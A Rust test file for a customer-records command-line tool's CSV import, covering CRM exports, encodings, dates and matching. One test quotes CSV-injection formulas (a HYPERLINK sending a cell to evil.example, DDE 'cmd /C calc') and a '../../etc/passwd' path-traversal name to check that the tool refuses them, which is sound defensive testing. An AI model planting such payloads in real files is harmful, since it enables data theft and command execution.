use std::fs;
use std::path::PathBuf;

use crate::support::{TestBook, stderr_of, stdout_of};

/// Returns the path of an import fixture.
fn fixture(name: &str) -> PathBuf {
    PathBuf::from(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/import"
    ))
    .join(name)
}

/// Copies a fixture into the book's folder, so messages name it plainly.
fn with_fixture(book: &TestBook, name: &str) {
    fs::copy(fixture(name), book.path(name)).unwrap();
}

/// Returns the customer files of a book, sorted.
fn customer_files(book: &TestBook) -> Vec<String> {
    let mut names: Vec<String> = fs::read_dir(book.path("customers"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".toml"))
        .collect();
    names.sort();
    names
}

/// Returns what is left in the scratch folder of atomic writes.
fn leftovers(book: &TestBook) -> usize {
    fs::read_dir(book.path(".rapport/tmp")).map_or(0, |d| d.count())
}

#[test]
fn a_hubspot_export_needs_no_map_and_its_lifecycle_stages_are_listed_until_mapped() {
    let book = TestBook::new();
    with_fixture(&book, "hubspot-contacts.csv");
    let out = book
        .rapport()
        .args(["import", "hubspot-contacts.csv"])
        .assert()
        .code(1);
    let err = stderr_of(&out);
    for line in [
        "hubspot-contacts.csv: column `Lifecycle Stage` holds 3 values that are not stages of this book (lead, prospect, customer, churned):",
        "hubspot-contacts.csv:4: `Marketing Qualified Lead` (also on line 7)",
        "hubspot-contacts.csv:5: `Opportunity`",
        "hubspot-contacts.csv:6: `Subscriber`",
        "rapport: error: 4 bad rows in hubspot-contacts.csv; nothing was written",
        "--map-value 'stage:Marketing Qualified Lead=lead'",
        "or add them to `stages` in rapport.toml",
    ] {
        assert!(err.contains(line), "missing {line:?} in\n{err}");
    }
    assert!(customer_files(&book).is_empty(), "nothing written");

    let out = book
        .rapport()
        .args([
            "import",
            "hubspot-contacts.csv",
            "--map-value",
            "stage:Marketing Qualified Lead=lead",
            "--map-value",
            "Opportunity=prospect",
            "--map-value",
            "stage:subscriber=lead",
        ])
        .assert()
        .success();
    let err = stderr_of(&out);
    assert!(err.contains("warning: not imported: `Record ID`"), "{err}");
    assert!(
        err.contains("imported hubspot-contacts.csv: 9 created, 0 updated, 0 unchanged, 0 skipped; of the created, 3 are companies"),
        "{err}"
    );
    assert_eq!(
        book.customer("eriks-ozolins"),
        r#"name = "Ēriks Ozoliņš"
stage = "customer"
email = "eriks@ozolins.example"
phone = "+371 2612 3456"
company = "ozolins-sia"
owner = "Anna Bērziņa"
created = 2024-03-01

[address]
city = "Rīga"
country = "Latvia"
"#
    );
    assert_eq!(
        book.customer("ozolins-sia"),
        "name = \"Ozoliņš SIA\"\nkind = \"company\"\nstage = \"lead\"\ncreated = 2026-11-23\n"
    );
    assert!(
        book.customer("jovana-petrovic")
            .contains("stage = \"prospect\"\n")
    );
    assert!(
        book.customer("mary-o-brien")
            .contains("company = \"acme-inc\"\n")
    );
    assert!(
        book.customer("tomas-svoboda")
            .contains("company = \"dvorak-s-r-o\"\n")
    );
    assert_eq!(leftovers(&book), 0);
}

#[test]
fn a_pipedrive_export_reads_the_next_column_where_the_first_is_empty() {
    let book = TestBook::new();
    with_fixture(&book, "pipedrive-people.csv");
    book.run(&["import", "pipedrive-people.csv"]);
    assert_eq!(
        book.customer("ilze-liepina"),
        r#"name = "Ilze Liepiņa"
stage = "lead"
email = "ilze@liepinas-darzi.example"
phone = "+371 2611 1111"
company = "liepinas-darzi-sia"
owner = "Anna Bērziņa"
tags = ["Hot lead"]
created = 2024-01-15
"#
    );
    // `Person - Phone - Work` is empty: `Person - Phone - Mobile` is read.
    assert!(
        book.customer("marek-horak")
            .contains("phone = \"+420 777 123 456\"\n")
    );
    assert!(
        book.customer("milos-jovanovic")
            .contains("company = \"jovanovic-d-o-o\"\n")
    );
    assert!(
        book.customer("jovanovic-d-o-o")
            .contains("name = \"Јовановић д.о.о.\"\n")
    );
}

#[test]
fn a_salesforce_export_keeps_multi_line_streets_and_utc_dates() {
    let book = TestBook::new();
    with_fixture(&book, "salesforce-contacts.csv");
    book.run(&["import", "salesforce-contacts.csv"]);
    assert_eq!(
        book.customer("petra-novakova"),
        r#"name = "Petra Nováková"
stage = "lead"
email = "petra.novakova@koks.example"
phone = "+420 603 111 222"
company = "latvijas-koks-as"
source = "Trade Show"
created = 2024-03-01

[address]
street = """
Na Příkopě 12
3. patro"""
city = "Praha"
postcode = "110 00"
country = "Czech Republic"
"#
    );
    assert_eq!(
        customer_files(&book),
        [
            "dragan-nikolic.toml",
            "janis-berzins.toml",
            "latvijas-koks-as.toml",
            "petra-novakova.toml"
        ]
    );
}

#[test]
fn a_latvian_excel_export_reads_the_same_in_utf8_with_bom_and_in_windows_1257() {
    let utf8 = TestBook::new();
    with_fixture(&utf8, "latvian-excel.csv");
    utf8.run(&[
        "import",
        "latvian-excel.csv",
        "--map",
        "Piesaistes izmaksas=acquisition_cost",
    ]);
    assert_eq!(
        utf8.customer("eriks-ozolins"),
        r#"name = "Ēriks Ozoliņš"
stage = "lead"
email = "eriks@ozolins.example"
phone = "+371 2612 3456"
tags = ["vip", "b2b"]
acquisition_cost = 1234.50
created = 2024-03-01

[address]
street = """
Brīvības iela 1
dz. 5"""
city = "Rīga"
"#
    );
    assert!(
        utf8.customer("oskars-steins")
            .contains("acquisition_cost = 12500.00\n")
    );
    assert!(
        utf8.customer("zanis-cakste")
            .contains("acquisition_cost = 0.50\ncreated = 2023-12-31\n")
    );

    let legacy = TestBook::new();
    with_fixture(&legacy, "latvian-excel-windows-1257.csv");
    let out = legacy
        .rapport()
        .args(["import", "latvian-excel-windows-1257.csv"])
        .assert()
        .code(1);
    let err = stderr_of(&out);
    assert!(
        err.contains("latvian-excel-windows-1257.csv:1: the file is not valid UTF-8"),
        "{err}"
    );
    assert!(err.contains("--encoding"), "{err}");
    legacy.run(&[
        "import",
        "latvian-excel-windows-1257.csv",
        "--encoding",
        "windows-1257",
        "--map",
        "Piesaistes izmaksas=acquisition_cost",
    ]);
    let names = customer_files(&utf8);
    assert_eq!(names, customer_files(&legacy));
    assert_eq!(names.len(), 4);
    for name in names {
        assert_eq!(
            fs::read(utf8.path(&format!("customers/{name}"))).unwrap(),
            fs::read(legacy.path(&format!("customers/{name}"))).unwrap(),
            "{name}"
        );
    }
}

#[test]
fn czech_windows_1250_and_latin1_files_import_with_their_encoding() {
    let book = TestBook::new();
    with_fixture(&book, "czech-windows-1250.csv");
    with_fixture(&book, "western-latin1.tsv");
    book.run(&[
        "import",
        "czech-windows-1250.csv",
        "--encoding",
        "windows-1250",
    ]);
    assert_eq!(
        book.customer("jiri-dvorak"),
        r#"name = "Jiří Dvořák"
stage = "lead"
email = "jiri@dvorak.example"
phone = "+420 601 234 567"
tags = ["velkoobchod"]
created = 2024-03-01

[address]
city = "Brno"
"#
    );
    assert!(
        book.customer("cenek-riha")
            .contains("tags = [\"maloobchod\", \"vip\"]\n")
    );
    assert!(
        book.customer("cenek-riha")
            .contains("city = \"Ústí nad Labem\"\n")
    );
    // Tab-delimited; 03/15/2024 shows the column writes the month first.
    book.run(&["import", "western-latin1.tsv", "--encoding", "latin1"]);
    assert!(
        book.customer("francois-muller")
            .contains("created = 2024-03-15\n")
    );
    assert!(
        book.customer("asa-angstrom")
            .contains("created = 2024-04-02\n")
    );
    assert!(
        book.customer("asa-angstrom")
            .contains("city = \"Göteborg\"\n")
    );
    assert!(
        book.customer("sean-o-briain")
            .contains("country = \"Éire\"\n")
    );
}

#[test]
fn the_hostile_file_lists_every_bad_row_and_writes_nothing() {
    let book = TestBook::new();
    with_fixture(&book, "hostile.csv");
    let out = book
        .rapport()
        .args(["import", "hostile.csv"])
        .assert()
        .code(1);
    let err = stderr_of(&out);
    let listed: Vec<&str> = err
        .lines()
        .filter(|l| l.starts_with("hostile.csv:"))
        .collect();
    assert_eq!(
        listed,
        [
            "hostile.csv:2: column `name` holds the spreadsheet formula `=HYPERLINK(\"http://evil.example/?\"&A1,\"C`; rapport imports values, not formulas",
            "hostile.csv:5: the e-mail `anna@example.LV` is also on line 4",
            "hostile.csv:6: the name is empty; every customer needs a name",
            "hostile.csv:7: column `created`: `2024-13-45` is not a date: there is no month 13",
            "hostile.csv:8: the row has 2 cells where the header has 5",
            "hostile.csv:9: column `company` holds the spreadsheet formula `@SUM(1+9)*cmd|' /C calc'!A0`; rapport imports values, not formulas",
            "hostile.csv:10: column `phone` holds the spreadsheet formula `-2+3+cmd|' /C calc'!A0`; rapport imports values, not formulas",
        ]
    );
    assert!(err.contains("rapport: error: 7 bad rows in hostile.csv; nothing was written"));
    assert!(customer_files(&book).is_empty());
    assert_eq!(leftovers(&book), 0);

    // A name is only a name: `../../etc/passwd` becomes the id `etc-passwd`,
    // a file inside the book.
    book.write("path.csv", "name\n../../etc/passwd\n");
    book.run(&["import", "path.csv"]);
    assert_eq!(customer_files(&book), ["etc-passwd.toml"]);
    assert!(
        book.customer("etc-passwd")
            .starts_with("name = \"../../etc/passwd\"\n")
    );
    // An id must be an id.
    book.write("ids.csv", "id,name\n../../x,X\n");
    let out = book.rapport().args(["import", "ids.csv"]).assert().code(1);
    assert!(
        stderr_of(&out).contains("ids.csv:2: column `id`: `../../x` is not a valid id"),
        "{}",
        stderr_of(&out)
    );
}

#[test]
fn ambiguous_slashed_dates_are_refused_until_the_format_is_given() {
    let book = TestBook::new();
    book.write("dates.csv", "name,created\nA,03/04/2024\nB,05/06/2024\n");
    let out = book
        .rapport()
        .args(["import", "dates.csv"])
        .assert()
        .code(1);
    let err = stderr_of(&out);
    assert!(
        err.contains("dates.csv: column `created` has dates such as `03/04/2024` (line 2) that read as day/month or month/day"),
        "{err}"
    );
    assert!(err.contains("--date-format '%d/%m/%Y'"), "{err}");
    assert!(
        !err.contains("dates.csv:3"),
        "the column is the problem, not each row: {err}"
    );
    assert!(customer_files(&book).is_empty());
    book.run(&["import", "dates.csv", "--date-format", "%d/%m/%Y"]);
    assert!(book.customer("a").contains("created = 2024-04-03\n"));
    assert!(book.customer("b").contains("created = 2024-06-05\n"));
}

#[test]
fn numbers_with_a_decimal_comma_and_formula_guards_are_read_exactly() {
    let book = TestBook::with_settings(
        "[fields.score]\ntype = \"number\"\n[fields.note]\ntype = \"string\"\n",
    );
    book.write(
        "n.csv",
        "name;acquisition_cost;fields.score;fields.note\nA;1.234,50;1,234;'=SUM(A1)\n",
    );
    let out = book.rapport().args(["import", "n.csv"]).assert().code(1);
    assert!(
        stderr_of(&out).contains("`1,234` could be read as 1234 or 1.234; pass --decimal-comma"),
        "{}",
        stderr_of(&out)
    );
    book.run(&["import", "n.csv", "--decimal-comma"]);
    assert_eq!(
        book.customer("a"),
        "name = \"A\"\nstage = \"lead\"\nacquisition_cost = 1234.50\ncreated = 2026-11-23\n\n[fields]\nnote = \"=SUM(A1)\"\nscore = 1.234\n"
    );
}

#[test]
fn rows_match_customers_by_email_without_regard_to_case() {
    let book = TestBook::new();
    book.run(&["add", "Anna Bērziņa", "--email", "anna@example.lv"]);
    book.write("a.csv", "Name,E-mail,Lifecycle Stage,City\nAnna B.,ANNA@example.LV,customer,Rīga\nJānis,janis@example.lv,lead,\n");
    // By default rows match by id; a new row with a known e-mail is refused.
    let out = book.rapport().args(["import", "a.csv"]).assert().code(1);
    assert!(
        stderr_of(&out).contains("a.csv:2: the e-mail `ANNA@example.LV` already belongs to `anna-berzina`; to update it, import with --match email"),
        "{}",
        stderr_of(&out)
    );
    let out = book
        .rapport()
        .args(["import", "a.csv", "--match", "email"])
        .assert()
        .code(1);
    assert!(
        stderr_of(&out)
            .contains("a.csv:2: matches the customer `anna-berzina` already in the book")
    );

    let out = book
        .rapport()
        .args([
            "import",
            "a.csv",
            "--match",
            "email",
            "--on-match",
            "update",
            "--dry-run",
        ])
        .assert()
        .success();
    assert_eq!(
        stdout_of(&out),
        "line\taction\tid\tname\tdetail\n2\tupdate\tanna-berzina\tAnna B.\tname, stage, address.city\n3\tcreate\tjanis\tJānis\t\n"
    );
    assert_eq!(
        customer_files(&book),
        ["anna-berzina.toml"],
        "a dry run writes nothing"
    );

    book.run(&["import", "a.csv", "--match", "email", "--on-match", "skip"]);
    assert!(
        book.customer("anna-berzina")
            .starts_with("name = \"Anna Bērziņa\"\nstage = \"lead\"\n")
    );
    book.run(&[
        "import",
        "a.csv",
        "--match",
        "email",
        "--on-match",
        "update",
    ]);
    assert_eq!(
        book.customer("anna-berzina"),
        r#"name = "Anna B."
stage = "customer"
email = "anna@example.lv"
created = 2026-11-23

[address]
city = "Rīga"

[[interactions]]
date = 2026-11-23
kind = "stage"
from = "lead"
to = "customer"
"#
    );
}

#[test]
fn unmapped_columns_are_listed_or_kept_as_custom_fields() {
    let book = TestBook::new();
    book.write("k.csv", "Name,Record ID,Shoe Size\nA,51,42\n");
    let out = book
        .rapport()
        .args(["import", "k.csv", "--keep-unmapped"])
        .assert()
        .success();
    assert!(
        stderr_of(&out).contains("kept as custom fields"),
        "{}",
        stderr_of(&out)
    );
    assert!(
        book.customer("a")
            .ends_with("[fields]\nrecord_id = \"51\"\nshoe_size = \"42\"\n")
    );
    book.write("m.csv", "Full Name,Mail\nB,b@example.lv\n");
    book.run(&["import", "m.csv", "--map", "Mail=email"]);
    assert!(book.customer("b").contains("email = \"b@example.lv\""));
    let out = book
        .rapport()
        .args(["import", "m.csv", "--map", "Mail=emial"])
        .assert()
        .code(2);
    assert!(stderr_of(&out).contains("did you mean `email`?"));
}

#[test]
fn interactions_already_logged_are_skipped_so_a_second_import_changes_nothing() {
    let book = TestBook::new();
    book.run(&["add", "Anna", "--email", "anna@example.lv"]);
    book.run(&[
        "log",
        "anna",
        "purchase",
        "--amount",
        "10",
        "--date",
        "2024-03-01",
    ]);
    book.run(&[
        "log",
        "anna",
        "purchase",
        "--amount",
        "99",
        "--ref",
        "INV-1",
        "--date",
        "2024-03-02",
    ]);
    // Two equal purchases on one day are both real: the book holds one of
    // them, so the first row is skipped and the second appended.
    book.write(
        "i.csv",
        "customer,date,kind,amount,summary,ref\n\
         anna,2024-03-01,purchase,10.00,,\n\
         anna,2024-03-01,purchase,10.00,,\n\
         anna,2024-03-02,purchase,99.00,,INV-1\n\
         anna,2024-03-05T10:30,call,,\"Called, \"\"yes\"\"\",\n",
    );
    let out = book
        .rapport()
        .args(["import", "--interactions", "i.csv", "--dry-run"])
        .assert()
        .success();
    assert_eq!(
        stdout_of(&out),
        "line\taction\tcustomer\tinteraction\n\
         2\tskip\tanna\t2024-03-01 purchase\n\
         3\tappend\tanna\t2024-03-01 purchase\n\
         4\tskip\tanna\t2024-03-02 purchase INV-1\n\
         5\tappend\tanna\t2024-03-05T10:30:00 call\n"
    );
    let before = book.customer("anna");
    let out = book
        .rapport()
        .args(["import", "--interactions", "i.csv"])
        .assert()
        .success();
    assert!(
        stderr_of(&out)
            .contains("imported i.csv: 2 interactions appended to 1 customer, 2 already there")
    );
    assert_eq!(
        book.customer("anna"),
        format!(
            "{before}\n[[interactions]]\ndate = 2024-03-01\nkind = \"purchase\"\namount = 10.00\n\n[[interactions]]\ndate = 2024-03-05T10:30:00\nkind = \"call\"\nsummary = 'Called, \"yes\"'\n"
        )
    );
    let after = book.customer("anna");
    book.run(&["import", "--interactions", "i.csv"]);
    assert_eq!(
        book.customer("anna"),
        after,
        "a second import changes nothing"
    );
}

#[test]
fn interaction_rows_are_checked_before_anything_is_appended() {
    let book = TestBook::new();
    book.run(&["add", "Anna", "--email", "Anna@Example.lv"]);
    book.write(
        "i.csv",
        "email,date,type,amount,subject\n\
         anna@example.lv,2024-03-01,Phone call,,hello\n\
         nobody@example.lv,2024-03-02,call,,\n\
         anna@example.lv,2024-03-03,purchase,12.345,\n",
    );
    let before = book.customer("anna");
    let out = book
        .rapport()
        .args(["import", "--interactions", "i.csv"])
        .assert()
        .code(1);
    let err = stderr_of(&out);
    for line in [
        "i.csv:4: column `amount`: `12.345` has more than two decimals",
        "i.csv: column `type` holds 1 value that is not interaction kinds of this book",
        "i.csv:2: `Phone call`",
        "--map-value 'kind:Phone call=call'",
    ] {
        assert!(err.contains(line), "missing {line:?} in\n{err}");
    }
    assert_eq!(book.customer("anna"), before);
    book.write(
        "i.csv",
        "email,date,type,subject\nanna@example.lv,2024-03-01,Phone call,hello\nnobody@example.lv,2024-03-02,call,\n",
    );
    let out = book
        .rapport()
        .args([
            "import",
            "--interactions",
            "i.csv",
            "--map-value",
            "Phone call=call",
        ])
        .assert()
        .code(1);
    assert!(
        stderr_of(&out)
            .contains("i.csv:3: no customer with the e-mail `nobody@example.lv` in this book")
    );
    book.write(
        "i.csv",
        "email,date,type,subject\nanna@example.lv,2024-03-01,Phone call,hello\n",
    );
    book.run(&[
        "import",
        "--interactions",
        "i.csv",
        "--map-value",
        "Phone call=call",
    ]);
    assert!(
        book.customer("anna").ends_with(
            "[[interactions]]\ndate = 2024-03-01\nkind = \"call\"\nsummary = \"hello\"\n"
        )
    );
}

#[test]
fn reads_standard_input_and_shows_no_progress_bar_in_a_pipe() {
    let book = TestBook::new();
    let out = book
        .rapport()
        .args(["import", "-"])
        .write_stdin("name,email\nĒriks Ozoliņš,e@example.lv\n")
        .assert()
        .success();
    let err = stderr_of(&out);
    assert_eq!(
        err,
        "rapport: imported <stdin>: 1 created, 0 updated, 0 unchanged, 0 skipped\n"
    );
    assert!(!err.contains('\r'));
    assert_eq!(customer_files(&book), ["eriks-ozolins.toml"]);
}

#[test]
fn deals_import_and_export_round_trip_and_refuse_unknown_stages() {
    let book = TestBook::new();
    book.run(&["add", "Anna"]);
    book.write(
        "d.csv",
        "customer,title,value,stage,opened,closed\nanna,\"Pilot, phase 1\",\"1 200,00\",Closed Won,2024-01-10,2024-02-01\n",
    );
    let out = book
        .rapport()
        .args(["import", "--deals", "d.csv"])
        .assert()
        .code(1);
    assert!(
        stderr_of(&out).contains("d.csv:2: `Closed Won`"),
        "{}",
        stderr_of(&out)
    );
    book.run(&[
        "import",
        "--deals",
        "d.csv",
        "--map-value",
        "Closed Won=won",
    ]);
    assert!(book.customer("anna").ends_with(
        "[[deals]]\ntitle = \"Pilot, phase 1\"\nvalue = 1200.00\nstage = \"won\"\nopened = 2024-01-10\nclosed = 2024-02-01\n"
    ));
    assert_eq!(
        book.run(&["export", "--deals"]),
        "customer,title,value,stage,opened,closed\nanna,\"Pilot, phase 1\",1200.00,won,2024-01-10,2024-02-01\n"
    );
}

#[test]
fn a_failure_before_the_renames_leaves_the_book_untouched() {
    let book = TestBook::new();
    book.run(&["add", "Anna"]);
    let before = book.customer("anna");
    // The scratch folder cannot be made: staging fails before any rename.
    fs::remove_dir_all(book.path(".rapport/tmp")).unwrap();
    fs::write(book.path(".rapport/tmp"), "in the way").unwrap();
    book.write(
        "c.csv",
        "id,name,email\nanna,Anna,a@example.lv\nbob,Bob,b@example.lv\n",
    );
    book.rapport()
        .args(["import", "c.csv", "--on-match", "update"])
        .assert()
        .code(1);
    assert_eq!(customer_files(&book), ["anna.toml"]);
    assert_eq!(book.customer("anna"), before);
}

/// The speed targets of DESIGN.md section 10: 100,000 customer rows in
/// under 10 s, 1,000,000 interaction rows in under 60 s. Slow, so ignored
/// by default; run with a release build:
/// `cargo test --release --test cli import_speed -- --ignored --nocapture`.
#[test]
#[ignore]
fn import_speed() {
    use std::fmt::Write as _;
    use std::time::Instant;

    use crate::generate::Rng;

    const CUSTOMERS: usize = 100_000;
    const INTERACTIONS: usize = 1_000_000;
    let first = [
        "Ēriks",
        "Līga",
        "Jiří",
        "Јована",
        "Anna",
        "Jānis",
        "Милош",
        "Tomáš",
    ];
    let last = [
        "Ozoliņš",
        "Kalniņa",
        "Dvořák",
        "Петровић",
        "Bērziņa",
        "Novák",
        "Svoboda",
    ];
    let mut rng = Rng::new(10);
    let mut customers = String::from(
        "id,name,stage,email,phone,tags,acquisition_cost,created,address.city,address.country\n",
    );
    for i in 0..CUSTOMERS {
        let name = format!("{} {}", rng.pick(&first), rng.pick(&last));
        writeln!(
            customers,
            "c{i:06},{name},customer,user{i}@example.lv,+371 2{:03} {:04},vip;b2b,{}.{:02},2024-{:02}-{:02},Rīga,LV",
            rng.below(1000),
            rng.below(10000),
            rng.below(5000),
            rng.below(100),
            1 + rng.below(12),
            1 + rng.below(28)
        )
        .unwrap();
    }
    let mut interactions = String::from("customer,date,kind,amount,summary,ref\n");
    for i in 0..INTERACTIONS {
        writeln!(
            interactions,
            "c{:06},2024-{:02}-{:02},purchase,{}.{:02},\"Order, {i}\",INV-{i}",
            i % CUSTOMERS,
            1 + rng.below(12),
            1 + rng.below(28),
            rng.below(2000),
            rng.below(100)
        )
        .unwrap();
    }
    let book = TestBook::new();
    book.write("customers.csv", &customers);
    book.write("interactions.csv", &interactions);
    drop((customers, interactions));

    let time = |args: &[&str]| {
        let start = Instant::now();
        let out = book.rapport().args(args).assert().success();
        let took = start.elapsed();
        eprintln!(
            "{:>6.2} s  rapport {}  ({})",
            took.as_secs_f64(),
            args.join(" "),
            stderr_of(&out).trim()
        );
        took
    };
    let c = time(&["import", "customers.csv"]);
    let i = time(&["import", "--interactions", "interactions.csv"]);
    time(&["import", "--interactions", "interactions.csv"]);
    time(&["export", "--interactions"]);
    assert_eq!(customer_files(&book).len(), CUSTOMERS);
    assert!(c.as_secs_f64() < 10.0, "100,000 customer rows took {c:?}");
    assert!(
        i.as_secs_f64() < 60.0,
        "1,000,000 interaction rows took {i:?}"
    );
}

#[test]
fn rows_of_people_erased_with_forget_are_skipped_with_a_message() {
    let book = TestBook::new();
    book.run(&["add", "Ēriks Ozoliņš", "--email", "eriks@example.lv"]);
    book.run(&["forget", "eriks-ozolins", "--yes"]);
    book.write(
        "c.csv",
        "Name,Email,Phone\nĒriks O.,ERIKS@example.lv,\nAnna,anna@example.lv,\n",
    );
    let out = book.rapport().args(["import", "c.csv"]).assert().success();
    let err = stderr_of(&out);
    assert!(
        err.contains(
            "rapport: c.csv:2: skipped: its e-mail belongs to a person erased with `rapport forget`"
        ),
        "{err}"
    );
    assert!(
        err.contains("1 created, 0 updated, 0 unchanged, 1 skipped"),
        "{err}"
    );
    assert_eq!(customer_files(&book), ["anna.toml"]);
}

#[test]
fn with_git_commit_an_import_commits_every_file_it_wrote() {
    use crate::git_support::{files_of, git, git_book, run_git, subjects};
    let book = git_book(true);
    // More files than fit on git's command line are handed over in a file.
    let mut csv = String::from("id,name\n");
    for i in 0..600 {
        csv.push_str(&format!("c{i:04},Customer {i}\n"));
    }
    book.write("c.csv", &csv);
    book.write("i.csv", "customer,date,kind\nc0001,2024-03-01,call\n");
    git(book.root(), &["add", "c.csv"]);
    run_git(&book, &["import", "c.csv"]);
    run_git(&book, &["import", "--interactions", "i.csv"]);
    assert_eq!(
        &subjects(book.root())[..2],
        [
            "rapport: import --interactions i.csv: 1 interaction on 1 customer",
            "rapport: import c.csv: 600 created, 0 updated"
        ]
    );
    assert_eq!(files_of(book.root(), "HEAD~1").len(), 600);
    // The user's own staged file stays staged and out of the commits.
    assert_eq!(
        git(book.root(), &["status", "--short", "--", "c.csv"]),
        "A  c.csv\n"
    );
}

#[test]
fn regression_bulk_appends_reach_an_inline_history_and_keep_crlf() {
    let book = TestBook::new();
    book.write(
        "customers/anna.toml",
        "name = \"Anna\"\ninteractions = [{ date = 2024-01-01, kind = \"call\" }]\n",
    );
    book.write(
        "customers/bob.toml",
        "name = \"Bob\"\r\nstage = \"lead\"\r\n",
    );
    book.write(
        "i.csv",
        "customer,date,kind\nanna,2024-02-01,call\nanna,2024-03-01,email\nbob,2024-02-01,call\nbob,2024-03-01,note\n",
    );
    book.run(&["import", "--interactions", "i.csv"]);
    let anna = book.customer("anna");
    assert!(
        anna.contains("date = 2024-02-01, kind = \"call\""),
        "{anna}"
    );
    assert!(
        anna.contains("date = 2024-03-01, kind = \"email\""),
        "{anna}"
    );
    let bob = book.customer("bob");
    assert!(
        bob.ends_with("\r\n[[interactions]]\r\ndate = 2024-03-01\r\nkind = \"note\"\r\n"),
        "{bob:?}"
    );
    assert!(
        !bob.replace("\r\n", "").contains('\n'),
        "every line ends in CRLF: {bob:?}"
    );
}
